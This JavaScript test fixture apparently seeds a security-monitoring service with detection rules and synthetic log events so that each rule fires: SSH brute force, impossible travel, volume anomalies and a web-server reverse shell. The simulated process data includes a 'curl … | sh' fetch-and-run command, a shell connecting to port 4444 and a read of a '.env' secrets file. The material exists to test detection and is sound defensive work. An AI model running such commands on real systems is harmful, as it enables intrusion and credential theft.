// A signal of every detection method, from events that are made so that its rule fires. What
// is seen of each is worked out here apart, from the same events.
import { send } from './data.mjs'

const rulesPath = '/api/v2/security_monitoring/rules'
const minute = 60_000
const hour = 60 * minute

/** ruleOf makes a rule and gives its id. */
export const ruleOf = async (engine, name, queries, cases, options, more = {}) => (await engine.call(more.path ?? rulesPath, {
  name, message: more.message ?? 'Look at it.', isEnabled: true, type: 'log_detection', tags: more.tags ?? [], queries,
  cases: cases.map((condition) => ({ name: '', status: more.severity ?? 'high', condition, notifications: [] })),
  options: { keepAlive: 3600, maxSignalDuration: 86400, ...options }, ...more.rule,
})).id

const place = (ip, latitude, longitude, city, country, network) => ({ client: { ip, geoip: { latitude, longitude, city: { name: city }, country: { name: country }, as: { name: network } } } })

const ssh = (at, ip, outcome, user, message, more = {}) => ({
  ddsource: 'sshd', service: 'sshd', hostname: 'bastion-1', timestamp: at, message, evt: { name: 'ssh_login', outcome },
  usr: { id: user, name: user }, network: { client: { ip } }, ...more,
})

/** makeMethods makes the rules and sends the events; now is when they end. It gives what the events come to. */
export async function makeMethods(engine, now = Date.now()) {
  const said = { now, ...(await makeLogins(engine, now)), ...(await makeTravel(engine, now)), ...(await makeAnomaly(engine, now)), ...(await makeOthers(engine, now)), ...(await makeWorkload(engine, now)), ...(await makeContent(engine, now)) }
  return said
}

/** makeLogins makes signals of a threshold, a sequence, a new value, a silence's kin, and one over the first two. */
async function makeLogins(engine, now) {
  const client = ['@network.client.ip']
  const failed = { name: 'failed_logins', query: 'source:sshd @evt.name:ssh_login @evt.outcome:failure', groupByFields: client }
  const brute = await ruleOf(engine, 'SSH brute force', [failed], ['failed_logins >= 5'], { detectionMethod: 'threshold', evaluationWindow: 300 }, {
    message: '{{@network.client.ip}} failed to log in again and again.\n\n1. Which user? Ask them.\n2. If it was not, **lock the user out**.', tags: ['technique:T1110-brute-force', 'tactic:TA0006-credential-access'],
  })
  const chain = await ruleOf(engine, 'SSH login after failures', [failed, { name: 'logins', query: 'source:sshd @evt.name:ssh_login @evt.outcome:success', groupByFields: client }], [''], {
    detectionMethod: 'sequence_detection', evaluationWindow: 0,
    sequenceDetectionOptions: {
      steps: [{ name: 'guessing', condition: 'failed_logins >= 5', evaluationWindow: 300 }, { name: 'in', condition: 'logins > 0', evaluationWindow: 60 }],
      stepTransitions: [{ parent: 'guessing', child: 'in', evaluationWindow: 900 }],
    },
  }, { severity: 'critical', message: 'The address {{@network.client.ip}} failed to log in again and again, and then got in.\n\n1. Which user? Ask them whether that was they.\n2. If it was not, lock the user out, keep the host as it is, and see what was run since.\n3. Change the password, or take the key away.', tags: ['technique:T1110-brute-force', 'technique:T1078-valid-accounts'] })
  await engine.call(rulesPath, {
    name: 'Guessed, and in', message: 'Both.', isEnabled: true, type: 'signal_correlation', tags: [],
    queries: [{ name: 'guessed', ruleId: brute, aggregation: 'event_count', correlatedByFields: client }, { name: 'broke_in', ruleId: chain, aggregation: 'event_count', correlatedByFields: client }],
    cases: [{ name: '', status: 'critical', condition: 'guessed > 0 && broke_in > 0', notifications: [] }],
    options: { evaluationWindow: 900, keepAlive: 3600, maxSignalDuration: 86400 },
  })
  await ruleOf(engine, 'New country of a user', [{ name: 'country', query: 'source:vpn', aggregation: 'new_value', metrics: ['@network.client.geoip.country.name'], groupByFields: ['@usr.id'] }], [''], {
    detectionMethod: 'new_value', evaluationWindow: 0, newValueOptions: { forgetAfter: 28, learningDuration: 0, learningMethod: 'duration', learningThreshold: 0 },
  })
  const ip = '203.0.113.66'
  const begin = now - 20 * minute
  const guesses = Array.from({ length: 34 }, (_, i) => begin + Math.round((i * 88_000) / 33))
  const success = begin + 102_000
  const vpn = (ago, country) => ({ ddsource: 'vpn', service: 'vpn', hostname: 'vpn-1', timestamp: now - ago * hour, message: `connected from ${country}`, usr: { id: 'p.novak' }, network: place('198.51.100.' + ago, 50, 14, 'Praha', country, 'AS64500 Example') })
  await send(engine, [
    ...guesses.map((at, i) => ssh(at, ip, 'failure', ['root', 'admin', 'deploy'][i % 3], `Failed password for ${['root', 'admin', 'deploy'][i % 3]} from ${ip} port ${39000 + i} ssh2`)),
    ssh(success, ip, 'success', 'deploy', `Accepted password for deploy from ${ip} port 39123 ssh2`),
    ...[9, 8, 6, 5].map((ago) => vpn(ago, 'Czechia')), vpn(2, 'Brazil'),
  ])
  return { guesses, success, ip }
}

async function makeTravel(engine, now) {
  await ruleOf(engine, 'Impossible travel', [{ name: 'logins', query: 'source:okta @evt.outcome:success', aggregation: 'geo_data', metrics: ['@network.client.geoip'], groupByFields: ['@usr.id'] }], [''], {
    detectionMethod: 'impossible_travel', evaluationWindow: 0, impossibleTravelOptions: { baselineUserLocations: false },
  })
  const stops = [
    { at: now - 7 * hour, ip: '192.0.2.10', latitude: 59.33, longitude: 18.07, city: 'Stockholm', country: 'Sweden' },
    { at: now - 4 * hour, ip: '192.0.2.11', latitude: 48.86, longitude: 2.35, city: 'Paris', country: 'France' },
    { at: now - 70 * minute, ip: '198.51.100.7', latitude: -23.55, longitude: -46.63, city: 'São Paulo', country: 'Brazil' },
  ]
  await send(engine, stops.map((s) => ({
    ddsource: 'okta', service: 'okta', hostname: 'idp', timestamp: s.at, message: `j.lindqvist signed in from ${s.city}`, evt: { outcome: 'success' }, usr: { id: 'j.lindqvist' },
    network: place(s.ip, s.latitude, s.longitude, s.city, s.country, 'AS64501 Example Hosting'),
  })))
  return { stops }
}

/** makeAnomaly makes twelve days of an even rhythm, busy by day, and a burst at the end. */
async function makeAnomaly(engine, now) {
  await ruleOf(engine, 'Unusual volume of object reads', [{ name: 'reads', query: 'source:s3 @evt.name:GetObject', aggregation: 'count', groupByFields: ['@usr.id'] }], ['reads > 0.9999'], {
    detectionMethod: 'anomaly_detection', evaluationWindow: 0, anomalyDetectionOptions: { bucketDuration: 3600, learningDuration: 48, detectionTolerance: 1 },
  }, { severity: 'medium' })
  const last = Math.floor((now - 2 * hour) / hour) * hour
  const buckets = []
  for (let at = last - 12 * 24 * hour; at <= last; at += hour) {
    const ofDay = new Date(at).getUTCHours()
    const usual = ofDay >= 8 && ofDay < 18 ? 14 : 4
    buckets.push({ at, count: at === last ? 160 : usual + ((Math.floor(at / hour) * 7919) % 5) })
  }
  await send(engine, buckets.flatMap(({ at, count }) => Array.from({ length: count }, (_, i) => ({
    ddsource: 's3', service: 's3', hostname: 'edge', timestamp: at + Math.floor((i * 50 * minute) / count), message: 'GetObject', evt: { name: 'GetObject' }, usr: { id: 'svc-etl' },
  }))))
  return { buckets }
}

async function makeOthers(engine, now) {
  await engine.call(rulesPath, {
    name: 'Alerts of the vendor', message: 'The vendor says so.', isEnabled: true, type: 'log_detection', tags: [], cases: [],
    thirdPartyCases: [{ name: 'severe', query: '@alert.level:severe', status: 'critical', notifications: [] }, { name: 'minor', query: '@alert.level:minor', status: 'low', notifications: [] }],
    options: { detectionMethod: 'third_party', thirdPartyRuleOptions: { defaultNotifications: [], defaultStatus: 'info', rootQueries: [{ query: 'source:vendor', groupByFields: ['host'] }] } },
  })
  await send(engine, [{ ddsource: 'vendor', hostname: 'laptop-9', service: 'edr', timestamp: now - 30 * minute, message: 'Malware was found', alert: { level: 'severe' } }])
  return { alerts: 1 }
}

/** makeContent makes lines that say the same with other numbers for days, and one that says something else. */
async function makeContent(engine, now) {
  await ruleOf(engine, 'An unusual line', [{ name: 'lines', query: 'source:backup', aggregation: 'none', groupByFields: ['host'] }], [''], {
    detectionMethod: 'content_anomaly', evaluationWindow: 0, contentAnomalyOptions: { similarityPercentage: 50, similarItems: 1, learningDuration: 1, forgetAfter: 7 },
  }, { severity: 'low', path: '/api/nightjar/v1/rules' })
  const line = (at, message) => ({ ddsource: 'backup', service: 'backup', hostname: 'store-1', timestamp: at, message })
  const usual = Array.from({ length: 12 }, (_, i) => now - 60 * hour + i * hour)
  const unusual = now - 3 * hour
  const said = 'certificate revoked by unknown operator from maintenance console'
  await send(engine, [...usual.map((at, i) => line(at, `backup of volume data finished without any errors in ${40 + i} seconds`)), line(unusual, said)])
  return { unusual, unusualLine: said }
}

/** reverseShell is what the agent's rule asks for. */
export const reverseShell = 'exec.file.name in ["bash", "sh"] && process.ancestors.file.name == "nginx" && process.tty_name == "" && process.user == "www-data"'

/** makeWorkload makes what an agent sends: a shell of a web server that holds a connection and reads a secret. */
async function makeWorkload(engine, now) {
  await ruleOf(engine, 'Reverse shell from web server child', [{ name: 'shell', query: 'source:runtime-security-agent @agent.rule_id:reverse_shell_web', groupByFields: ['host'] }], ['shell > 0'], { detectionMethod: 'threshold', evaluationWindow: 300 }, {
    severity: 'critical', tags: ['technique:T1059.004-unix-shell'], rule: { type: 'workload_security' },
  })
  await engine.call('/api/v2/remote_config/products/cws/agent_rules', { data: { type: 'agent_rule', attributes: { name: 'reverse_shell_web', expression: reverseShell } } })
  const boot = now - 7 * 24 * hour
  const began = now - 11 * minute
  const lineage = [
    { pid: 1, comm: 'systemd', path: '/usr/lib/systemd/systemd', user: 'root', args: '--system', at: boot },
    { pid: 1188, comm: 'nginx', path: '/usr/sbin/nginx', user: 'root', args: '-g daemon on;', at: boot + 9000 },
    { pid: 20417, comm: 'php-fpm8.2', path: '/usr/sbin/php-fpm8.2', user: 'www-data', args: '', at: began - 30_000 },
    { pid: 20981, comm: 'sh', path: '/usr/bin/dash', user: 'www-data', args: '-c curl -s http://198.51.100.77/u | sh', at: began - 475 },
    { pid: 20990, comm: 'bash', path: '/usr/bin/bash', user: 'www-data', args: '-i', at: began },
    { pid: 20997, comm: 'cat', path: '/usr/bin/cat', user: 'www-data', args: '/var/www/shop/.env', at: began + 9285 },
  ]
  const event = (at, name, depth, more) => {
    const [own, ...above] = lineage.slice(0, depth).reverse()
    const text = (p) => ({ pid: p.pid, comm: p.comm, args: p.args, user: p.user, file: { path: p.path }, created_at: BigInt(p.at) * 1000000n })
    const all = above.map(text)
    const listed = { pid: all.map((p) => p.pid), comm: all.map((p) => p.comm), args: all.map((p) => p.args), user: all.map((p) => p.user), created_at: all.map((p) => p.created_at), file: { path: all.map((p) => p.file.path) } }
    return {
      timestamp: at, source: 'runtime-security-agent', hostname: 'web-3', service: 'shop', message: '', evt: { name },
      agent: { rule_id: 'reverse_shell_web', rule_version: '1', policy_name: 'web-servers', policy_version: '12', boot_id: 'b00t', process_start: 9007199254740 + depth }, process: { ...text(own), ancestors: listed }, ...more,
    }
  }
  const events = [
    event(began, 'exec', 5, {}),
    event(began + 14, 'connect', 5, { connect: { addr: { ip: '198.51.100.77', port: 4444 }, protocol: 'tcp' } }),
    event(began + 9285, 'open', 6, { open: { file: { path: '/var/www/shop/.env' } } }),
  ]
  const body = JSON.stringify(events, (_, v) => (typeof v === 'bigint' ? `int:${v}` : v)).replace(/"int:(\d+)"/g, '$1')
  const sent = await fetch(engine.base + '/api/v2/logs', { method: 'POST', headers: { 'DD-API-KEY': engine.key, 'Content-Type': 'application/json' }, body })
  if (!sent.ok) throw new Error(`the agent's events: ${sent.status} ${await sent.text()}`)
  await send(engine, [])
  return { shell: began }
}
